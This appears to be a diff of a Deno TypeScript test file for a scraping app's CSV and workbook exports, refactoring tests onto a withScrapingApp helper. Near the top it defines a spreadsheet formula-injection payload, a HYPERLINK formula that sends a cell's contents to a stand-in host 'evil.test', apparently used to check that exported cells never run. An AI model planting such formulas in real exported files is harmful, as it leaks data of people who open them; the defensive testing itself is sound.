@@ -13,7 +13,7 @@ import {
 import { startTestApp, type TestApp } from "../harness.ts";
 import { startErp } from "../market/export/erp.ts";
 import { sheetsOf } from "../read_workbook.ts";
-import { ended, startScrapingApp } from "../scraping/scraping_app.ts";
+import { ended, withScrapingApp } from "../scraping/scraping_app.ts";
 import { bodyOf, refusalOf } from "./answers.ts";
 
 const RUNS = '=HYPERLINK("http://evil.test/"&A1,"x")';
@@ -286,8 +286,7 @@ async function isWorded(app: TestApp, { path, words }: FiledList): Promise<void>
   }
 }
 
-Deno.test("every list is a CSV and a workbook of all that fits, in its order, and no cell runs", async () => {
-  await using app = await startScrapingApp();
+withScrapingApp.test("every list is a CSV and a workbook of all that fits, in its order, and no cell runs", async (app) => {
   await fill(app);
   const stranger = await app.strangerOwner();
   for (const list of LISTS) await agrees(app, stranger, list);
@@ -355,8 +354,7 @@ async function rowsOfFile(app: TestApp, path: string) {
   return rows.map((row) => new Map(head.map((name, at) => [name, row[at]])));
 }
 
-Deno.test("amounts of files are in major units, and a run's results are one, too", async () => {
-  await using app = await startScrapingApp();
+withScrapingApp.test("amounts of files are in major units, and a run's results are one, too", async (app) => {
   await fill(app);
   const arrivals = await rowsOfFile(app, "/api/price-arrivals.csv");
   assertEquals(
